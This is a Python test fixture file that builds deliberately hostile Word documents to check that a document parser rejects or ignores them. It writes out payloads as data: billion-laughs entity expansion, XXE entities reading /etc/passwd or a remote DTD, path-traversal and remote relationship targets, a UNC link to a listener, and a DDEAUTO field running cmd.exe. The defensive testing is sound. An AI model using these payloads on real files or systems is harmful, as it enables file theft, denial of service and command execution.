"""Word files whose XML is hostile: entities, references to elsewhere, macros."""

from syllabi import UnreadKind
from tests.builders import make_raw_docx, make_zip
from tests.syllabi.hostile_file import ELSEWHERE, GOOD_WORDS, LISTENER_PORT, HostileFile
from tests.syllabi.hostile_zip import GOOD_XML, MAIN, PARAGRAPH

RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_UNSAFE = (UnreadKind.UNSAFE,)
_FILE_ENTITY = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
_WEB_ENTITY = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{ELSEWHERE}/x">]>'
_WEB_DEFINITIONS = f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{ELSEWHERE}/x.dtd"> %f;]>'


def with_doctype(doctype: str, text: str = "") -> bytes:
    return make_raw_docx(f"{PARAGRAPH}<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", head=doctype)


def doctype_in_utf_16() -> bytes:
    xml = GOOD_XML.decode().replace("</w:t>", "&f;</w:t>")
    whole = f'<?xml version="1.0" encoding="UTF-16"?>{_FILE_ENTITY}{xml}'
    return make_zip([(MAIN, whole.encode("utf-16"))])


def with_relationships() -> bytes:
    """Every way a Word file can ask for something outside itself; all of it is left alone."""
    rows = (
        ("attachedTemplate", f"{ELSEWHERE}/template.dotm"),
        ("image", f"{ELSEWHERE}/image.png"),
        ("image", "file:///etc/passwd"),
        ("image", "../../../../etc/passwd"),
        ("subDocument", f"{ELSEWHERE}/part.docx"),
        ("aFChunk", "file:///etc/passwd"),
        ("oleObject", f"\\\\127.0.0.1@{LISTENER_PORT}\\share\\x"),
        ("header", "file:///etc/passwd"),
        ("styles", f"{ELSEWHERE}/styles.xml"),
        ("numbering", "../../../../etc/passwd"),
    )
    links = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(rows)
    )
    inside = links.replace(' TargetMode="External"', "").replace('Id="r', 'Id="i')
    relations = f'<Relationships xmlns="{RELATIONSHIPS}">{links}{inside}</Relationships>'
    field = (
        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT {ELSEWHERE}/x "/>'
        '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
        f'<w:altChunk xmlns:r="{OFFICE}" r:id="i5"/><w:subDoc xmlns:r="{OFFICE}" r:id="r4"/>'
    )
    parts = [("word/_rels/document.xml.rels", relations.encode())]
    return make_raw_docx(PARAGRAPH + field, parts)


def main_part_elsewhere() -> bytes:
    relations = (
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="r1" '
        f'Type="{OFFICE}/officeDocument" Target="../../../../etc/passwd"/></Relationships>'
    )
    return make_zip([("_rels/.rels", relations.encode()), ("word/other.xml", b"<x/>")])


def with_macros() -> bytes:
    return make_raw_docx(PARAGRAPH, [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(9_000))])


DOCX_FILES: tuple[HostileFile, ...] = (
    HostileFile("a DOCTYPE", "a.docx", lambda: with_doctype("<!DOCTYPE w:document>"), _UNSAFE),
    HostileFile(
        "billion laughs",
        "a.docx",
        lambda: with_doctype(f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>', "&l9;"),
        _UNSAFE,
    ),
    HostileFile(
        "entity of a local file", "a.docx", lambda: with_doctype(_FILE_ENTITY, "&f;"), _UNSAFE
    ),
    HostileFile(
        "entity of a web address", "a.docx", lambda: with_doctype(_WEB_ENTITY, "&f;"), _UNSAFE
    ),
    HostileFile(
        "definitions of a web address", "a.docx", lambda: with_doctype(_WEB_DEFINITIONS), _UNSAFE
    ),
    HostileFile(
        "local file entity in UTF-16",
        "a.docx",
        doctype_in_utf_16,
        (UnreadKind.UNSAFE, UnreadKind.DAMAGED),
    ),
    HostileFile(
        "templates, pictures and parts from elsewhere",
        "a.docx",
        with_relationships,
        words=GOOD_WORDS,
    ),
    HostileFile("main part elsewhere", "a.docx", main_part_elsewhere, (UnreadKind.DAMAGED,)),
    HostileFile("macros", "a.docm", with_macros, words=GOOD_WORDS),
    HostileFile("macros, renamed", "a.docx", with_macros, words=GOOD_WORDS),
    HostileFile(
        "an unfinished main part",
        "a.docx",
        lambda: make_raw_docx("<w:p><w:r>"),
        (UnreadKind.DAMAGED,),
    ),
)
